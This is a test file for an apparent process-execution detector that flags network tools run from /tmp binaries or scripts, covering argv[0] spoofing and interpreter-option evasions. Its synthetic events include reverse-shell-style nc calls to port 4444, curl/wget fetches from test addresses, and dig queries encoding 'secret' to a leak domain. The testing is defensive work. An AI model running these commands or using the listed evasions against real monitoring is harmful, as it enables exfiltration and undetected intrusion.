import { describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
import { cli } from "../helpers/cli.js";
import { detect, exec, shell } from "../helpers/exec-events.js";

/**
 * Evasions of the utility's identity (argv[0] is the caller's) and of the interpreter's script (inline code
 * is never a path, and every option grammar is the interpreter's own), end to end through the batch
 * pipeline: lineage, then evaluate(). The last event of each tree is the one under test.
 */
type Expect = { alert: { utility: string; path: string; kind: string } } | { none: true };

const T = (tree: () => ExecEvent[], want: Expect) => ({ tree, want });

const fromTmpBinary = (child: Parameters<typeof exec>[0]) => () => [
  shell(),
  exec({ pid: 200, ppid: 100, exe: "/tmp/.k", args: ["/tmp/.k"] }),
  exec({ ...child, pid: 300, ppid: 200 }),
];

/** An interpreter at pid 200 under a clean shell, and `child` under it. */
const underInterpreter =
  (interpreter: Omit<Parameters<typeof exec>[0], "pid" | "ppid">, child: Parameters<typeof exec>[0]) =>
  () => [shell(), exec({ ...interpreter, pid: 200, ppid: 100 }), exec({ ...child, pid: 300, ppid: 200 })];

const curl = { pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", "http://192.0.2.10/x"] };
const dig = { pid: 300, ppid: 200, exe: "/usr/bin/dig", args: ["dig", "c2VjcmV0.leak.example"] };

/** Each of these was missed, or raised a false alert, before the executed file and the grammars decided. */
const evasions: Record<string, ReturnType<typeof T>> = {
  // Spoofed argv[0] on the utility.
  "exec -a busybox /usr/bin/nc from a /tmp binary": T(
    fromTmpBinary({
      pid: 0,
      ppid: 0,
      exe: "/usr/bin/nc.openbsd",
      invoked: "/usr/bin/nc",
      args: ["busybox", "192.0.2.1", "4444"],
    }),
    { alert: { utility: "nc", path: "/tmp/.k", kind: "ancestor" } },
  ),
  "exec -a toybox curl from a /tmp binary": T(
    fromTmpBinary({ pid: 0, ppid: 0, exe: "/usr/bin/curl", args: ["toybox", "http://192.0.2.10/x"] }),
    { alert: { utility: "curl", path: "/tmp/.k", kind: "ancestor" } },
  ),
  "exec -a busybox-x /bin/busybox nc (busybox takes busybox* for itself)": T(
    fromTmpBinary({ pid: 0, ppid: 0, exe: "/bin/busybox", args: ["busybox-x", "nc", "192.0.2.1", "4444"] }),
    { alert: { utility: "nc", path: "/tmp/.k", kind: "ancestor" } },
  ),
  "a downloaded /tmp/busybox-x86_64 running wget": T(
    () => [
      shell(),
      exec({
        pid: 300,
        ppid: 100,
        exe: "/tmp/busybox-x86_64",
        args: ["busybox-x86_64", "wget", "http://192.0.2.10/a"],
      }),
    ],
    { alert: { utility: "wget", path: "/tmp/busybox-x86_64", kind: "self" } },
  ),
  // Spoofed argv[0] on the interpreter.
  "exec -a busybox sh /tmp/x: dash still runs /tmp/x": T(
    underInterpreter({ exe: "/usr/bin/dash", args: ["busybox", "/tmp/x"], invoked: "/bin/sh" }, dig),
    { alert: { utility: "dig", path: "/tmp/x", kind: "script" } },
  ),
  "exec -a toybox python3 /tmp/x.py: python3 still runs /tmp/x.py": T(
    underInterpreter({ exe: "/usr/bin/python3.11", args: ["toybox", "/tmp/x.py"] }, curl),
    { alert: { utility: "curl", path: "/tmp/x.py", kind: "script" } },
  ),
  // Interpreter grammars: options that hid the script.
  "bash -eo pipefail /tmp/x": T(
    underInterpreter({ exe: "/usr/bin/bash", args: ["bash", "-eo", "pipefail", "/tmp/x"] }, curl),
    { alert: { utility: "curl", path: "/tmp/x", kind: "script" } },
  ),
  "bash - /tmp/x (a lone - ends the options)": T(
    underInterpreter({ exe: "/usr/bin/bash", args: ["bash", "-", "/tmp/x"] }, curl),
    { alert: { utility: "curl", path: "/tmp/x", kind: "script" } },
  ),
  "ksh93 /tmp/x (the kernel reports the versioned name)": T(
    underInterpreter({ exe: "/usr/bin/ksh93", args: ["ksh", "/tmp/x"] }, curl),
    { alert: { utility: "curl", path: "/tmp/x", kind: "script" } },
  ),
  "mawk -f /tmp/a.awk (Debian's default awk)": T(
    underInterpreter({ exe: "/usr/bin/mawk", args: ["awk", "-f", "/tmp/a.awk"] }, curl),
    { alert: { utility: "curl", path: "/tmp/a.awk", kind: "script" } },
  ),
  "gawk -i /tmp/lib.awk with an inline program": T(
    underInterpreter(
      { exe: "/usr/bin/gawk", args: ["gawk", "-i", "/tmp/lib.awk", 'BEGIN{system("curl x")}'] },
      curl,
    ),
    { alert: { utility: "curl", path: "/tmp/lib.awk", kind: "script" } },
  ),
  "lua -e 'x=1' /tmp/x.lua (lua runs both)": T(
    underInterpreter({ exe: "/usr/bin/lua5.4", args: ["lua", "-e", "x=1", "/tmp/x.lua"] }, curl),
    { alert: { utility: "curl", path: "/tmp/x.lua", kind: "script" } },
  ),
  "ruby -C /tmp x.rb from /": T(
    underInterpreter({ exe: "/usr/bin/ruby3.1", args: ["ruby", "-C", "/tmp", "x.rb"], cwd: "/" }, curl),
    { alert: { utility: "curl", path: "/tmp/x.rb", kind: "script" } },
  ),
  "php -S with a router script under /var/www": T(
    underInterpreter(
      { exe: "/usr/bin/php8.2", args: ["php", "-S", "0.0.0.0:8000", "/var/www/up/router.php"] },
      curl,
    ),
    { alert: { utility: "curl", path: "/var/www/up/router.php", kind: "script" } },
  ),
  "node --env-file /etc/app.env /tmp/a.js": T(
    underInterpreter(
      { exe: "/usr/bin/node", args: ["node", "--env-file", "/etc/app.env", "/tmp/a.js"] },
      curl,
    ),
    { alert: { utility: "curl", path: "/tmp/a.js", kind: "script" } },
  ),
  // Inline code is never a path, even with the cwd under /tmp.
  "python3 -uc CODE in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/python3.11", args: ["python3", "-uc", "import os; os.system('dig x')"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "python3 -Bm http.server in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/python3.11", args: ["python3", "-Bm", "http.server"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "perl -ne CODE /etc/hostname in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/perl", args: ["perl", "-ne", "system('dig', $_)", "/etc/hostname"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "ruby -ne CODE in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/ruby3.1", args: ["ruby", "-ne", "system('dig')", "in.txt"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "node -pe CODE in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/node", args: ["node", "-pe", "require('child_process')"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "node --input-type module -e CODE in /tmp": T(
    underInterpreter(
      { exe: "/usr/bin/node", args: ["node", "--input-type", "module", "-e", "x"], cwd: "/tmp" },
      dig,
    ),
    { none: true },
  ),
  "php -nr CODE in /tmp": T(
    underInterpreter({ exe: "/usr/bin/php8.2", args: ["php", "-nr", "system('dig x');"], cwd: "/tmp" }, dig),
    { none: true },
  ),
};

/** What must keep working (these passed before, and the changes above must not break them). */
const kept: Record<string, ReturnType<typeof T>> = {
  "awk PROGRAM in /tmp": T(
    underInterpreter({ exe: "/usr/bin/mawk", args: ["awk", 'BEGIN{system("dig x")}'], cwd: "/tmp" }, dig),
    { none: true },
  ),
  "busybox symlink nc from a /tmp binary": T(
    fromTmpBinary({
      pid: 0,
      ppid: 0,
      exe: "/bin/busybox",
      invoked: "/bin/nc",
      args: ["nc", "192.0.2.1", "4444"],
    }),
    { alert: { utility: "nc", path: "/tmp/.k", kind: "ancestor" } },
  ),
  "busybox wget from a /tmp binary": T(
    fromTmpBinary({ pid: 0, ppid: 0, exe: "/bin/busybox", args: ["busybox", "wget", "http://192.0.2.10/a"] }),
    { alert: { utility: "wget", path: "/tmp/.k", kind: "ancestor" } },
  ),
  "sh /tmp/x": T(underInterpreter({ exe: "/usr/bin/dash", args: ["sh", "/tmp/x"] }, curl), {
    alert: { utility: "curl", path: "/tmp/x", kind: "script" },
  }),
  "shebang /bin/sh /tmp/x.sh": T(
    underInterpreter({ exe: "/usr/bin/dash", args: ["/bin/sh", "/tmp/x.sh"], invoked: "/tmp/x.sh" }, curl),
    { alert: { utility: "curl", path: "/tmp/x.sh", kind: "script" } },
  ),
  "python3 /tmp/x.py": T(
    underInterpreter({ exe: "/usr/bin/python3.11", args: ["python3", "/tmp/x.py"] }, curl),
    {
      alert: { utility: "curl", path: "/tmp/x.py", kind: "script" },
    },
  ),
  "busybox sh /tmp/x": T(underInterpreter({ exe: "/bin/busybox", args: ["busybox", "sh", "/tmp/x"] }, curl), {
    alert: { utility: "curl", path: "/tmp/x", kind: "script" },
  }),
  "bash -c CODE from a clean shell": T(
    underInterpreter(
      { exe: "/usr/bin/bash", args: ["bash", "-c", "curl http://192.0.2.10/x"], cwd: "/tmp" },
      curl,
    ),
    { none: true },
  ),
  "exec -a sh curl /tmp/x is no interpreter": T(
    underInterpreter({ exe: "/usr/bin/curl", args: ["sh", "/tmp/x"] }, dig),
    { none: true },
  ),
};

describe.each([
  ["evasions", evasions],
  ["kept", kept],
])("identity and script, through the pipeline: %s", (_group, cases) => {
  it.each(Object.entries(cases))("%s", async (_name, { tree, want }) => {
    const { alerts, counters } = await detect(tree());
    if ("none" in want) {
      expect(alerts).toEqual([]);
      expect(counters.suppressed).toEqual({ loopback: 0, allowlist: 0, "benign-location": 0, dedup: 0 });
      return;
    }
    expect(
      alerts.map((a) => ({ utility: a.utility.name, path: a.location.path, kind: a.location.kind })),
    ).toEqual([want.alert]);
  });
});

/** Native lines for the CLI: a /tmp parent that runs `process`. */
const nativeTree = (process: { executable: string; invokedPath?: string; args: string[]; cwd?: string }) =>
  [
    {
      schema: "netutil-detector/exec@1",
      time: 1_767_607_200_000,
      source: { eventId: "h:200" },
      host: { name: "h" },
      process: { pid: 200, ppid: 1, executable: "/tmp/.k", args: ["/tmp/.k"] },
    },
    {
      schema: "netutil-detector/exec@1",
      time: 1_767_607_200_100,
      source: { eventId: "h:300" },
      host: { name: "h" },
      process: { pid: 300, ppid: 200, ...process },
    },
  ]
    .map((line) => JSON.stringify(line))
    .join("\n");

describe("through the CLI (replay --format native)", () => {
  it.each([
    [
      "exec -a busybox /usr/bin/nc",
      {
        executable: "/usr/bin/nc.openbsd",
        invokedPath: "/usr/bin/nc",
        args: ["busybox", "192.0.2.1", "4444"],
      },
      "nc",
    ],
    ["exec -a toybox curl", { executable: "/usr/bin/curl", args: ["toybox", "http://192.0.2.10/x"] }, "curl"],
  ])("%s alerts", async (_name, process, utility) => {
    const { code, stdout } = await cli(
      ["replay", "--format", "native", "--output", "json", "-"],
      nativeTree(process),
    );
    expect(code).toBe(0);
    const alerts = stdout
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Alert);
    expect(alerts.map((a) => [a.utility.name, a.location.path])).toEqual([[utility, "/tmp/.k"]]);
  });

  it("an interpreter with inline code in /tmp raises nothing", async () => {
    const input = [
      {
        schema: "netutil-detector/exec@1",
        time: 1_767_607_200_000,
        source: { eventId: "h:200" },
        host: { name: "h" },
        process: {
          pid: 200,
          ppid: 1,
          executable: "/usr/bin/perl",
          args: ["perl", "-lne", "system('dig', $_)", "/etc/hostname"],
          cwd: "/tmp",
        },
      },
      {
        schema: "netutil-detector/exec@1",
        time: 1_767_607_200_100,
        source: { eventId: "h:300" },
        host: { name: "h" },
        process: { pid: 300, ppid: 200, executable: "/usr/bin/dig", args: ["dig", "x.leak.example"] },
      },
    ]
      .map((line) => JSON.stringify(line))
      .join("\n");
    const { code, stdout, stderr } = await cli(
      ["replay", "--format", "native", "--output", "json", "-"],
      input,
    );
    expect(code).toBe(0);
    expect(stdout).toBe("");
    expect(stderr).toMatch(/2 exec events, 0 alerts/);
  });
});
